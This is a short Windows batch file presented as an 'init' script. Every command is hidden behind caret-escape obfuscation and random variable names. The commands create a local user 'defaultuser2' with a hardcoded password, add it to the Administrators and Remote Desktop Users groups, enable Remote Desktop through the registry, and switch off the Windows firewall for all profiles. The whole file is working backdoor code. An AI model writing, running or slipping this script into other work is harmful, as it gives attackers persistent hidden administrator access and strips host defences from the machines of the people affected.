REM init 4836 v1
@echo off
set "wsrs=n^et ^u^ser d^e^fau^lt^u^s^er2 Wi^n^t^e^r#2^0^2^5^x /ad^d /^y"
call %wsrs%
@echo off
set "kqtx=net ^l^oc^algr^o^u^p ad^m^i^n^i^strator^s defaultu^se^r2 /add"
call %kqtx%
@echo off
set "mmse=^ne^t lo^c^a^lgro^u^p "Remote Desktop Users" d^efau^ltus^er2 /^add"
call %mmse%
@echo off
set "rjuu=^r^eg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v f^D^en^y^TS^C^o^n^n^ec^t^i^o^ns /^t REG_^D^W^O^R^D /d 0 /f"
call %rjuu%
@echo off
set "qamb=ne^t^sh a^dvf^ire^w^all ^s^e^t a^llprof^i^le^s st^ate ^of^f"
call %qamb%
